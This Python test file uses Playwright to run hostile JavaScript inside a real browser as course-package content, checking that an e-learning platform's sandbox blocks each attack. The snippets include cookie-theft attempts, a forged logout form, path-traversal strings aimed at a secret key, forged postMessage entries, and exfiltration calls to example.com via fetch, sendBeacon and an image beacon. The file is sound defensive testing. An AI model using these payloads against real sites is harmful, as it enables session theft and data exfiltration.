"""Packages that attack from inside a real browser: each attack runs as package content and reports what it got."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Route, expect

from mycelia.delivery.api import launch_item
from mycelia.delivery.models import Attempt, TrackingEntry
from mycelia.people.models import Person
from tests.browser import despite_new_frame
from tests.config.running import eventually
from tests.factories.delivery import learner_actor, make_attempt, make_package
from tests.factories.live import LiveSite
from tests.factories.packages import Blueprint, sco_page
from tests.factories.people import make_person

pytestmark = pytest.mark.xdist_group("browser")


_REPORT = """
API.LMSInitialize("");
const APP = new URL(parent.document.body.dataset.appOrigin).origin;
const trying = async (act) => { try { return await act(); } catch (error) { return "refused: " + error.name; } };
(async () => {
  const result = await trying(async () => { %s });
  const out = document.createElement("pre");
  out.id = "result";
  out.textContent = JSON.stringify(result ?? null);
  document.body.append(out);
})();
"""
Attack = Callable[..., tuple[Any, Page]]


def attacker(script: str, **files: str) -> Blueprint:
    page = sco_page(_REPORT % script, body="<h1>Innocent</h1>")
    return Blueprint(title="Attacker", files={"index.html": page, **files})


@pytest.fixture
def learner(site: LiveSite) -> Person:
    return make_person()


@pytest.fixture
def stranger() -> list[str]:
    """What was asked of example.com, which answers everything: only a defence keeps a package from it."""
    return []


@pytest.fixture
def context(site: LiveSite, browser: Browser, learner: Person, stranger: list[str]) -> BrowserContext:
    """A browser that would give a page its camera and microphone, and in which example.com answers."""

    def answer(route: Route) -> None:
        stranger.append(route.request.url)
        route.fulfill(body="<title>Stranger</title>", headers={"Access-Control-Allow-Origin": "*"})

    context = site.context(browser, learner)
    context.grant_permissions(["camera", "microphone"])
    context.route("https://example.com/**", answer)
    return context


@pytest.fixture
def attack(site: LiveSite, context: BrowserContext, learner: Person) -> Attack:
    def run(script: str, **files: str) -> tuple[Any, Page]:
        attempt = make_attempt(make_package(attacker(script, **files)), learner=learner)
        page = context.new_page()
        page.goto(f"{site.app}/learn/attempts/{attempt.pk}/")
        result = page.frame_locator("[data-stage] iframe").frame_locator("#content").locator("#result")
        expect(result).to_be_attached(timeout=15_000)
        return json.loads(result.text_content() or "null"), page

    return run


def was_refused(result: object) -> bool:
    return isinstance(result, str) and result.startswith("refused")


def test_cookies_of_the_app_cannot_be_read(attack: Attack) -> None:
    result, page = attack("return document.cookie + parent.document.cookie;")
    assert result == ""
    assert "mycelia_session" in {cookie["name"] for cookie in page.context.cookies()}


def test_cookie_set_by_a_package_does_not_reach_the_app(attack: Attack) -> None:
    _, page = attack('document.cookie = "mycelia_session=mine; path=/"; return document.cookie;')
    assert "mine" not in {c["value"] for c in page.context.cookies(page.url.split("/learn")[0])}


def test_measures_of_the_server_cannot_be_read(attack: Attack) -> None:
    """The test's browser runs on the server's own machine, which may read them."""
    result, _ = attack(
        """
        const asked = ["/metrics", "/readyz"].map((path) => fetch(path, { referrerPolicy: "no-referrer" }));
        return (await Promise.all(asked)).map((answer) => answer.status);
        """
    )
    assert result == [404, 404]


@pytest.mark.parametrize("mode", ["cors", "no-cors"])
def test_api_of_the_app_cannot_be_called_with_the_learners_session(attack: Attack, mode: str) -> None:
    result, _ = attack(f'return (await fetch(APP + "/learn/", {{credentials: "include", mode: "{mode}"}})).status;')
    assert was_refused(result)


def test_form_cannot_be_posted_to_the_app(site: LiveSite, browser: Browser, learner: Person) -> None:
    script = """
        const form = document.createElement("form");
        form.method = "post"; form.action = APP + "/accounts/logout/";
        document.body.append(form); form.submit();
    """
    answers: list[str] = []
    context = site.context(browser, learner)
    context.on("response", lambda response: answers.append(response.url))
    page = context.new_page()
    page.goto(f"{site.app}/learn/attempts/{make_attempt(make_package(attacker(script)), learner=learner).pk}/")
    page.frame_locator("[data-stage] iframe").locator("#content").wait_for()
    page.wait_for_timeout(1500)
    assert any("index.html" in url for url in answers)
    assert not any("logout" in url for url in answers)


def test_pages_of_the_app_cannot_be_framed(attack: Attack) -> None:
    result, _ = attack(
        """
        const blocked = new Promise((resolve) => document.addEventListener("securitypolicyviolation",
          (event) => resolve(event.effectiveDirective)));
        const frame = document.createElement("iframe");
        frame.src = APP + "/"; document.body.append(frame);
        return blocked;
        """
    )
    assert result == "frame-src"


@pytest.mark.parametrize("target", ["top.document.title", "parent.parent.document.title", "top.localStorage.length"])
def test_page_of_the_app_cannot_be_read(attack: Attack, target: str) -> None:
    result, _ = attack(f"return {target};")
    assert result == "refused: SecurityError"


@pytest.mark.parametrize(
    "script",
    [
        'top.location.href = "https://example.com/"; return "went";',
        'const a = document.createElement("a"); a.href = "/"; a.target = "_top"; document.body.append(a); a.click();',
        'parent.parent.location.replace("https://example.com/");',
    ],
)
def test_page_of_the_app_cannot_be_navigated_away(attack: Attack, stranger: list[str], script: str) -> None:
    _, page = attack(script)
    page.wait_for_timeout(500)
    assert "/learn/attempts/" in page.url
    assert stranger == []


def test_frame_around_a_package_cannot_be_turned_by_its_location(attack: Attack, stranger: list[str]) -> None:
    """The sandbox lets a package turn no frame but those within it."""
    _, page = attack('parent.location = "https://example.com/"; return "went";')
    page.wait_for_timeout(500)
    assert not any("example.com" in frame.url for frame in page.frames)
    assert stranger == []


def test_frame_cannot_be_turned_to_another_site(
    site: LiveSite, context: BrowserContext, learner: Person, stranger: list[str]
) -> None:
    """A package shares its origin with the frame around it, and a link in that frame turns the frame itself.

    No sandbox forbids a page to turn itself: only `frame-src` of the app's page keeps the frame from going elsewhere,
    and the browser tells the app's page that it did.
    """
    turning = """
        const link = parent.document.createElement("a");
        link.href = "https://example.com/"; parent.document.body.append(link); link.click();
    """
    page = context.new_page()
    page.add_init_script(
        "window.held = []; addEventListener('securitypolicyviolation', (e) => window.held.push(e.effectiveDirective));"
    )
    attempt = make_attempt(make_package(attacker(turning)), learner=learner)
    page.goto(f"{site.app}/learn/attempts/{attempt.pk}/")
    assert eventually(lambda: "frame-src" in page.evaluate("window.held"), seconds=15)
    assert not any("example.com" in frame.url for frame in page.frames)
    assert stranger == []


@pytest.mark.parametrize(
    "path", ["../index.html", "..%2f..%2fsecrets%2fsecret_key", "%2e%2e/%2e%2e/x", "....//index.html", "../../launch/"]
)
def test_package_cannot_read_outside_of_its_folder(attack: Attack, path: str) -> None:
    result, _ = attack(f'return (await fetch("{path}")).status;')
    assert result == 404


def test_service_worker_cannot_be_registered(attack: Attack) -> None:
    result, page = attack(
        'await navigator.serviceWorker.register("worker.js"); return "registered";',
        **{"worker.js": "addEventListener('fetch', () => {});"},
    )
    assert was_refused(result)
    assert not any("127.0.0.1" in worker.url for worker in page.context.service_workers)


@pytest.mark.parametrize("device", ["{video: true}", "{audio: true}"])
def test_devices_cannot_be_used(attack: Attack, device: str) -> None:
    result, _ = attack(f'await navigator.mediaDevices.getUserMedia({device}); return "recording";')
    assert result == "refused: NotAllowedError"


@pytest.mark.parametrize(
    "script",
    [
        'return (await fetch("https://example.com/?stolen=1", {mode: "no-cors"})).type;',
        'return navigator.sendBeacon("https://example.com/", "stolen") ? "refused: perhaps" : "refused: at once";',
        """return new Promise((resolve) => {
             const image = new Image();
             image.onload = () => resolve("shown"); image.onerror = () => resolve("refused: image");
             image.src = "https://example.com/stolen.gif";
           });""",
    ],
    ids=["fetch", "beacon", "image"],
)
def test_other_sites_cannot_be_told_anything_by_request(attack: Attack, stranger: list[str], script: str) -> None:
    result, page = attack(script)
    page.wait_for_timeout(300)
    assert was_refused(result)
    assert stranger == []


def test_window_of_the_app_opened_by_a_package_stays_closed_to_it(attack: Attack) -> None:
    result, _ = attack(
        """
        const opened = window.open(APP + "/learn/");
        if (!opened) return "refused: popup";
        await new Promise((resolve) => setTimeout(resolve, 800));
        return opened.document.title;
        """
    )
    assert was_refused(result)


def _victim(learner: Person) -> tuple[Attempt, str]:
    other = make_attempt(learner=learner, activity_iri="https://example.com/another-lesson")
    return other, str(launch_item(learner_actor(learner), attempt_id=other.pk).session)


def test_commits_for_another_attempt_cannot_be_sent_from_content(attack: Attack, learner: Person) -> None:
    other, session = _victim(learner)
    forged = json.dumps({"session": session, "sequence": 1, "kind": "finished", "elements": {}})
    result, _ = attack(
        f"""
        const entries = [{forged}];
        const answer = await fetch(parent.document.body.dataset.commitsUrl,
          {{method: "POST", body: JSON.stringify({{entries}})}});
        return answer.status;
        """
    )
    assert result == 409
    assert not TrackingEntry.objects.filter(attempt=other, sequence=1).exists()


def test_messages_from_the_package_itself_are_not_believed(attack: Attack, learner: Person) -> None:
    other, session = _victim(learner)
    forged = json.dumps({"session": session, "sequence": 1, "kind": "finished", "elements": {}})
    _, page = attack(
        f"""
        const nonce = parent.location.hash.slice(1);
        for (const target of [top, parent.parent, parent])
          target.postMessage({{type: "entry", entry: {forged}, nonce}}, "*");
        await new Promise((resolve) => setTimeout(resolve, 500));
        """
    )
    await_true_message(page)
    assert not TrackingEntry.objects.filter(session=session, sequence=1).exists()
    other.refresh_from_db()
    assert not other.is_completed


def await_true_message(page: Page) -> None:
    """Send a message the player believes and wait for it: a forged one before it would have been read before it."""
    attempt = page.url.rstrip("/").rsplit("/", 1)[1]
    session = str(TrackingEntry.objects.get(attempt=attempt, sequence=0).session)
    entry = {"session": session, "sequence": 888, "kind": "committed", "elements": {}}
    page.frame_locator("[data-stage] iframe").locator("body").evaluate(
        "(body, entry) => parent.postMessage({type: 'entry', nonce: location.hash.slice(1), entry}, '*')", entry
    )
    assert eventually(TrackingEntry.objects.filter(session=session, sequence=888).exists)


def _forged(number: int) -> str:
    session = TrackingEntry.objects.get(sequence=0).session
    return json.dumps({"session": str(session), "sequence": number, "kind": "finished", "elements": {}})


@pytest.mark.parametrize("nonce", ["", "00000000-0000-0000-0000-000000000000"])
def test_messages_with_a_wrong_number_are_not_believed(attack: Attack, nonce: str) -> None:
    _, page = attack("return 1;")
    frame = page.frame_locator("[data-stage] iframe").locator("body")
    frame.evaluate(f"(body, nonce) => parent.postMessage({{type: 'entry', nonce, entry: {_forged(777)}}}, '*')", nonce)
    await_true_message(page)
    assert not TrackingEntry.objects.filter(sequence=777).exists()


def test_messages_from_another_window_are_not_believed(attack: Attack) -> None:
    _, page = attack("return 1;")
    nonce = page.locator("[data-stage] iframe").get_attribute("src").split("#")[1]
    page.evaluate(f"window.postMessage({{type: 'entry', entry: {_forged(777)}, nonce: '{nonce}'}}, '*')")
    await_true_message(page)
    assert not TrackingEntry.objects.filter(sequence=777).exists()


def test_storage_left_by_one_package_is_gone_for_the_next(
    site: LiveSite, browser: Browser, attack: Attack, learner: Person
) -> None:
    left, first = attack('localStorage.setItem("spy", "on you"); return localStorage.length;')
    assert left == 1 or was_refused(left), "a browser may refuse storage to embedded pages altogether"
    reader = make_attempt(
        make_package(attacker("return localStorage.length;")), learner=learner, activity_iri="https://example.com/next"
    )
    first.goto(f"{site.app}/learn/attempts/{reader.pk}/")
    result = first.frame_locator("[data-stage] iframe").frame_locator("#content").locator("#result")
    despite_new_frame(first, lambda: expect(result).to_have_text(re.compile("^0$|refused")))
